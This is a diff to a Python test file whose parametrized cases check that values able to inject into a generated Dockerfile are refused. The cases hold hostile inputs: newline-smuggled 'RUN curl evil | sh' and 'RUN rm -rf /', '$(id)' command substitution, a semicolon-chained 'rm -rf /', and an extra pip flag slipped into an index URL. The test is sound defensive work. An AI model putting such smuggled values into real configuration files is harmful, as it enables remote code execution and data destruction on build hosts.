@@ -77,13 +77,13 @@ def test_wheel_filename_that_does_not_parse(stack: Stack) -> None:
 
 
 @pytest.mark.parametrize("old,new", [
-    ("uv: uv==0.9.7", 'uv: "uv==0.9.7\\nRUN curl evil | sh"'),
+    ("uv: uv\n", 'uv: "uv\\nRUN curl evil | sh"\n'),
     ("transformers: transformers>=5.0.0", 'transformers: "transformers>=5\\rRUN x"'),
-    ("      uv: uv==0.9.7", '      uv: uv==0.9.7\n      apt_packages: ["curl\\nRUN rm -rf /"]'),
-    ("      uv: uv==0.9.7", '      uv: uv==0.9.7\n      env: {A: "x\\nRUN y"}'),
-    ("      uv: uv==0.9.7", '      uv: uv==0.9.7\n      env: {A: "$(id)"}'),
-    ("      uv: uv==0.9.7", '      uv: uv==0.9.7\n      apt_packages: ["curl; rm -rf /"]'),
-    ("      uv: uv==0.9.7", '      uv: uv==0.9.7\n      pip_index: "http://x/ --trusted-host y"'),
+    ("      uv: uv\n", '      uv: uv\n      apt_packages: ["curl\\nRUN rm -rf /"]\n'),
+    ("      uv: uv\n", '      uv: uv\n      env: {A: "x\\nRUN y"}\n'),
+    ("      uv: uv\n", '      uv: uv\n      env: {A: "$(id)"}\n'),
+    ("      uv: uv\n", '      uv: uv\n      apt_packages: ["curl; rm -rf /"]\n'),
+    ("      uv: uv\n", '      uv: uv\n      pip_index: "http://x/ --trusted-host y"\n'),
     ("base: example/base:1", 'base: "example/base:1\\nRUN id"'),
 ])
 def test_values_that_could_inject_into_a_dockerfile_are_refused(stack: Stack, old: str,
